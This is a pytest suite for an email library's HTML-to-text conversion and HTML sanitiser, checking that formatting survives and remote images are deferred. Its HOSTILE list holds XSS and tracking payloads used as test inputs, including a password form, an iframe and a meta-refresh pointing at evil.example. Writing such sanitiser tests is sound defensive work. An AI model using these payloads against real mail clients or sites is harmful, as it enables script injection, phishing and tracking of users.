"""HTML to text, and the sanitiser against hostile snippets."""

from __future__ import annotations

import re

import pytest

from rongmail.mime.html import html_to_text, sanitize_html


def test_html_to_text_blocks_and_skips() -> None:
    html = (
        "<html><head><title>t</title><style>p{color:red}</style></head><body>"
        "<p>Hello&nbsp;<b>world</b></p><div>line2<br>line3</div>"
        "<script>alert(1)</script><ul><li>a</li><li>b</li></ul>"
        "<table><tr><td>c1</td><td>c2</td></tr></table><img alt='logo' src=x></body></html>"
    )
    assert html_to_text(html) == "Hello world\nline2\nline3\n* a\n* b\n\tc1\tc2\nlogo"


def test_html_to_text_pre_and_entities() -> None:
    assert html_to_text("<pre>a\n  b</pre>&lt;x&gt; &#20320;&#x597D;") == "a\n  b\n<x> 你好"


def test_html_to_text_never_raises() -> None:
    for junk in ["<", "<!--", "<![CDATA[", "</", "<a b='", "&#99999999;", "<script>", "\x00<p"]:
        html_to_text(junk)
    assert html_to_text("<div>" * 100_000 + "deep") == "deep"


# Each hostile snippet with a predicate that must hold on the sanitised output.
HOSTILE: list[tuple[str, str]] = [
    ("<script>alert(1)</script>ok", r"<script|alert"),
    ("<img src=x onerror=alert(1)>", r"onerror"),
    ('<a href="javascript:alert(1)">x</a>', r"javascript"),
    ('<a href="  JaVaScRiPt:alert(1)">x</a>', r"(?i)javascript"),
    ('<a href="java&#x09;script:alert(1)">x</a>', r"(?i)script:"),
    ('<a href="vbscript:msgbox(1)">x</a>', r"(?i)vbscript"),
    ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', r"data:"),
    ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', r"data:"),
    ('<meta http-equiv="refresh" content="0;url=http://evil.example">', r"(?i)meta|refresh"),
    ('<form action="http://evil.example"><input name=pw type=password></form>', r"form|input"),
    ('<iframe src="http://evil.example"></iframe>', r"iframe|evil"),
    ('<object data="x.swf"></object><embed src="x.swf">', r"object|embed|swf"),
    ('<div style="width: expression(alert(1))">x</div>', r"expression"),
    ('<div style="background:url(http://track.example/p.gif)">x</div>', r"track"),
    ("<svg><script>alert(1)</script></svg>", r"svg|script"),
    ('<base href="http://evil.example/">', r"base|evil"),
    ('<body onload="alert(1)">x</body>', r"onload"),
    ('<a href="http://ok.example" onclick="steal()">x</a>', r"onclick"),
    ("<style>@import url(http://evil.example/x.css);</style>", r"import|evil"),
    ('<link rel="stylesheet" href="http://evil.example/x.css">', r"link|evil"),
    ('<img src="http://track.example/pixel.gif" width=1 height=1>', r'\ssrc="http'),
    ('<img srcset="http://track.example/a.png 1x">', r"track"),
    ('<table background="http://track.example/bg.png"><tr><td>x</td></tr></table>', r"track"),
    ('<img src="/api/logout">', r"logout"),
    ("<!-- <script>alert(1)</script> -->", r"script"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", r"onerror"),
]


@pytest.mark.parametrize(("html", "forbidden"), HOSTILE)
def test_hostile_snippets(html: str, forbidden: str) -> None:
    out = sanitize_html(html, allow_remote_images=False)
    assert re.search(forbidden, out) is None, out


def test_remote_image_is_deferred() -> None:
    out = sanitize_html(
        '<img src="https://img.example/a.png?x=1&y=2" alt=a>', allow_remote_images=False
    )
    assert 'data-rm-src="https://img.example/a.png?x=1&amp;y=2"' in out
    assert ' src="' not in out


def test_remote_image_allowed() -> None:
    out = sanitize_html('<img src="https://img.example/a.png">', allow_remote_images=True)
    assert 'src="https://img.example/a.png"' in out


def test_cid_image_kept() -> None:
    out = sanitize_html('<img src="cid:logo@x">', allow_remote_images=False)
    assert 'src="cid:logo@x"' in out


def test_attacker_cannot_forge_deferred_attribute() -> None:
    out = sanitize_html('<img data-rm-src="javascript:alert(1)">', allow_remote_images=False)
    assert "javascript" not in out


def test_links_get_rel_and_target() -> None:
    out = sanitize_html(
        '<a href="https://ok.example/" target="_self">x</a>', allow_remote_images=False
    )
    assert 'rel="noopener noreferrer"' in out
    assert 'target="_blank"' in out
    assert "_self" not in out
    assert 'href="https://ok.example/"' in out


def test_formatting_kept() -> None:
    html = '<p style="color: red">a</p><table><tr><td colspan="2"><b>b</b></td></tr></table>'
    out = sanitize_html(html, allow_remote_images=False)
    assert '<p style="color: red">a</p>' in out
    assert 'colspan="2"' in out and "<b>b</b>" in out
